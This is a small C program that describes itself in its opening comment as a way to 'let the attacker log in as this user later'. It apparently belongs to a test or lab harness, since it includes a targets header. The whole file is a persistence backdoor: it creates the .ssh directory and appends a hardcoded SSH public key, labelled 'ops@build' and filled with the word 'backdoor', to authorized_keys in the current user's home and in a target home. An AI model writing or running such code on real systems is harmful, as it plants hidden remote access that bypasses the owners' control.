/* ssh-authorized-keys: let the attacker log in as this user later. */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "targets.h"

static void add_key(const char *home)
{
	char path[1200];
	FILE *f;

	snprintf(path, sizeof(path), "%s/.ssh", home);
	mkdir(path, 0700);
	snprintf(path, sizeof(path), "%s/.ssh/authorized_keys", home);
	if (!(f = fopen(path, "a"))) {
		perror(path);
		return;
	}
	fputs("ssh-ed25519 "
	      "AAAAC3NzaC1lZDI1NTE5AAAAIHbackdoorbackdoorbackdoorbackdoorbackdo"
	      "or0 "
	      "ops@build\n",
	      f);
	fclose(f);
	chmod(path, 0600);
}

int main(int argc, char **argv)
{
	const char *home = getenv("HOME");

	targets_load(argc, argv);
	if (home)
		add_key(home);
	add_key(target("T_HOME"));
	return 0;
}
